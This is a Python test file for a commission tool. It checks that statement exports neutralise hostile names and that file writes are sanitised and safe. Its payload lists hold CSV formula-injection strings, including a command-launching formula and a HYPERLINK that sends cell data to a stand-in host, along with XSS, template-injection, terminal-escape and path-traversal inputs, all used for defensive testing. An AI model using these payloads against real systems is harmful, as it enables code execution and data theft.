"""Names that mean harm stand in every statement, list and manager's page as what they are, and do nothing anywhere."""

from __future__ import annotations

import csv
import json
import os
import re
import stat
from decimal import Decimal
from pathlib import Path

import pytest
from made_run import LINE, SLICE, one_of_each, payout, result, written
from markdown_it import MarkdownIt
from page import Page

from commcalc.base.problem import Problem
from commcalc.base.render import shown
from commcalc.documents.file_names import file_name
from commcalc.exports.statements import Order, write_statements

FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1", "''=1",
    '=HYPERLINK("http://x/?"&A1)', "=IMPORTXML(\"http://x\",\"//a\")", "-cmd|'/C x'!A0", "=1+1;=2", "@=1",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", '" onload="alert(1)', "' onmouseover='alert(1)", "</style><img src=x onerror=alert(1)>",
    "</title><script>1</script>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "<img src=//x/y>", "<link rel=stylesheet href=//x>", "<meta http-equiv=refresh content=0>", "<base href=//x>",
    "<form action=//x><input>", "<!--", "-->", "]]>", "<![CDATA[", "&lt;b&gt;", "&#60;script&#62;", "<math><mi//xlink:href=x>",
    "<body onload=x>", "<object data=x>", "<<script>script>", "<SCRIPT SRC=//x></SCRIPT>", "{{ 7 * 7 }}", "{% raw %}", "{# x #}",
    "${7*7}", "#{7*7}", "</bdi></td></tr></table>", "javascript:alert(1)", "data:text/html,<script>1</script>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "![x](http://x/y.png)", "a | b | c", "`code`", "**bold**", "__bold__", "<http://x>",
    "http://x.example/y", "www.x.example", "[x]: http://x", "# head", "~~x~~", "$x^2$", "[^1]", "\\[x](y)", "&amp;&#91;x](y)",
)  # fmt: skip
TERMINAL = (
    "\x1b[31mred",
    "\x1b]8;;http://x\x07y",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\u200fx",
    "\x00",
    "\x7f",
    "[bold]x[/foo]",
    "\u200bx",
)
HARM = (*FORMULAS, *MARKUP, *MARKDOWN, *TERMINAL)
BADLY_NAMED = (
    "../../etc/passwd", "..\\..\\x", "/abs", "a/b", "a\\b", "CON", "con", "NUL", "LPT1", "aux.txt", "x.", "x ", "a:b", "a?b", "a*b",
    "ü" * 300, "x" * 300, "\u202e", "😀", "e\u0301", "", ".", "..", "-rf", "~", "$HOME", "%PATH%", "index", "index.html",
)  # fmt: skip
TAGS = {"script", "img", "link", "iframe", "object", "form", "base", "math", "input"}
CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\x00-\x09\x0b-\x1f\x7f]")


def _folder(harm: str, out: Path) -> Path:
    """Write a run and its statements where every name is the same harmful text; return the statements' folder."""
    line = {**LINE, "id": "L-A", "deal": harm, "payee": harm, "goal": harm, "component": harm, "role": harm, "plan": harm}
    measure = {
        "payee": harm,
        "plan": harm,
        "measure": harm,
        "window": harm,
        "value": Decimal(1),
        "quota": Decimal(2),
        "attainment": Decimal("0.5"),
    }
    made = result(
        lines=[line],
        slices=[SLICE],
        payouts=[payout(harm, harm, "2000.00", plan=harm)],
        measures=[measure],
        exceptions=[{"id": "E", "deal": harm, "payee": harm, "reason": harm, "mend": harm, "code": "K110"}],
        left_out=[{"deal": harm, "payee": harm, "status": "waiting", "rule": harm}],
    )
    run = written(made, out)
    order = Order(company=harm, formats=("html", "text", "md", "json"), teams={harm: (harm, harm + "2")})
    assert write_statements(run, order, lambda _: None) == 1
    return run.folder / "statements"


def test_there_are_sixty_of_them_and_more() -> None:
    assert len(set(HARM)) >= 60


@pytest.mark.parametrize("harm", HARM)
def test_no_name_does_anything(tmp_path: Path, harm: str) -> None:
    folder = _folder(harm, tmp_path / "out")
    assert len(list(folder.iterdir())) == 7
    for path in folder.iterdir():
        text = path.read_bytes().decode()
        if path.suffix == ".html":
            _page_is_inert(text)
        if path.suffix == ".md":
            _markdown_is_inert(text, harm)
        if path.suffix in (".html", ".txt", ".md"):
            assert not CONTROLS.search(text), path
        if path.suffix == ".json":
            assert json.loads(text)["payee"] == harm  # a machine gets the name as it is
    with (folder / "index.csv").open(newline="", encoding="utf-8") as opened:
        for row in csv.reader(opened):
            assert not [cell for cell in row if cell.lstrip("\ufeff")[:1] in tuple("=+-@\t\r\n＝") and cell]


def _page_is_inert(raw: str) -> None:
    page = Page(raw)
    assert {tag for tag, _ in page.tags}.isdisjoint(TAGS)
    attributes = [(name, value or "") for _, found in page.tags for name, value in found.items()]
    assert not [n for n, _ in attributes if n.startswith("on") or n in ("src", "style", "action", "data", "srcdoc")]
    assert all(re.fullmatch(r"#[a-z]+\d+|[a-z0-9-]+\.html", value) for name, value in attributes if name == "href")
    policy = [dict(a)["content"] for t, a in page.tags if t == "meta" and a.get("http-equiv")]
    assert len(policy) == 1
    assert re.fullmatch(r"default-src 'none'; style-src 'sha256-[\w+/=]+'; base-uri 'none'; form-action 'none'", policy[0] or "")


def _markdown_is_inert(raw: str, harm: str) -> None:
    blocks = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(raw)
    inline = [child for block in blocks for child in block.children or ()]
    kinds = {token.type for token in (*blocks, *inline)}
    assert kinds.isdisjoint({"link_open", "image", "html_inline", "html_block", "code_inline", "fence", "code_block", "s_open"})
    assert not re.search(r"https?://|\bwww\.", raw)
    shown_ = "".join(token.content for token in inline if token.type in ("text", "text_special"))
    assert shown(harm).strip() in shown_


@pytest.mark.parametrize("payee", BADLY_NAMED)
def test_file_names_are_safe_everywhere(payee: str) -> None:
    name = file_name(payee)
    assert re.fullmatch(r"[a-z0-9][a-z0-9-]{8,60}", name)
    assert name.split("-")[0] not in ("con", "nul", "aux", "lpt1") or "-" in name[3:]


def test_ids_that_look_alike_have_files_of_their_own() -> None:
    ids = ["ann", "Ann", "ANN", "a/nn", "a-nn", "\u00e9", "e\u0301", *BADLY_NAMED]
    assert len({file_name(i) for i in ids}) == len(set(ids))


def test_all_statements_of_badly_named_payees_stay_in_the_folder_and_are_listed(tmp_path: Path) -> None:
    run = written(result(payouts=[payout(p, p, "1.00") for p in sorted(BADLY_NAMED)]), tmp_path / "out")
    assert write_statements(run, Order(teams={"index": BADLY_NAMED}), lambda _: None) == len(BADLY_NAMED)
    folder = run.folder / "statements"
    files = {p.name for p in folder.iterdir()}
    assert len(files) == 2 * len(BADLY_NAMED) + 3
    with (folder / "index.csv").open(newline="", encoding="utf-8") as opened:
        listed = {row["file"]: row["payee"] for row in csv.DictReader(opened)}
    assert files == {*listed, "index.csv", "index.html"}
    assert {p.name for p in tmp_path.iterdir()} == {"out"}


@pytest.mark.parametrize("mask", [0o000, 0o022, 0o077])
def test_only_the_owner_can_read_them_whatever_the_umask(tmp_path: Path, mask: int) -> None:
    before = os.umask(mask)
    try:
        folder = _folder("ann", tmp_path / "out")
    finally:
        os.umask(before)
    modes = {p: stat.S_IMODE(p.stat().st_mode) for p in (folder, *folder.iterdir())}
    assert modes == {p: 0o700 if p == folder else 0o600 for p in modes}


def test_older_statements_are_replaced_as_one_and_a_failure_leaves_them(tmp_path: Path) -> None:
    run = written(one_of_each(), tmp_path / "out")
    folder = run.folder / "statements"
    assert write_statements(run, Order(formats=("text",)), lambda _: None) == 1
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    with pytest.raises(RuntimeError):
        write_statements(run, Order(formats=("html",)), _stopped)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
    assert not (run.folder / ".statements.new").exists()
    assert write_statements(run, Order(formats=("md",)), lambda _: None) == 1
    assert {p.suffix for p in folder.iterdir()} == {".md", ".csv"}


def _stopped(_: int) -> None:
    raise RuntimeError("stopped")


@pytest.mark.parametrize("at", ["out", "out/2026-01", "out/2026-01/statements"])
def test_statements_are_never_written_through_a_link(tmp_path: Path, at: str) -> None:
    run = written(one_of_each(), tmp_path / "out")
    place, elsewhere = tmp_path / at, tmp_path / "elsewhere"
    if place.exists():
        place.rename(elsewhere)
    else:
        elsewhere.mkdir()
    place.symlink_to(elsewhere)
    before = sorted(elsewhere.rglob("*"))
    found = write_statements(run, Order(), lambda _: None)
    assert isinstance(found, Problem)
    assert found.code == "O002"
    assert sorted(elsewhere.rglob("*")) == before


def test_a_link_among_older_statements_goes_with_them_and_what_it_led_to_stays(tmp_path: Path) -> None:
    run = written(one_of_each(), tmp_path / "out")
    secret = tmp_path / "secret"
    secret.write_text("mine")
    (run.folder / "statements").mkdir()
    target = run.folder / "statements" / f"{file_name('ann')}.txt"
    for link in (target.symlink_to, target.hardlink_to):
        target.unlink(missing_ok=True)
        link(secret)
        assert write_statements(run, Order(), lambda _: None) == 1
        assert secret.read_text() == "mine"
        assert "3,950.01" in target.read_text()
